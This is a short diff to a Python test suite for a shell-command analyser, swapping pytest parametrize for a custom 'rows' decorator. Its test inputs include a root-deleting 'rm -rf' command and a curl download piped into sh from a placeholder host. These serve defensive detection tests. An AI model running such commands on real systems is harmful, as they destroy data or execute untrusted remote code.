@@ -6,6 +6,7 @@ import pytest
 
 from bus.shell import UNSET, commands
 from bus.shell.words import PROJECT
+from tests.support.rows import rows
 
 
 def deleted(text: str) -> set[str]:
@@ -20,7 +21,7 @@ def deleted(text: str) -> set[str]:
 
 
 @pytest.mark.req("X-09")
-@pytest.mark.parametrize(
+@rows(
     ("text", "path"),
     [
         ('set -- /; rm -rf "$1"', "/"),
@@ -106,7 +107,7 @@ def test_what_is_deleted(text: str, path: str) -> None:
 
 
 @pytest.mark.req("X-09")
-@pytest.mark.parametrize(
+@rows(
     "text",
     [
         "curl -o i.sh http://x && sh i.sh",
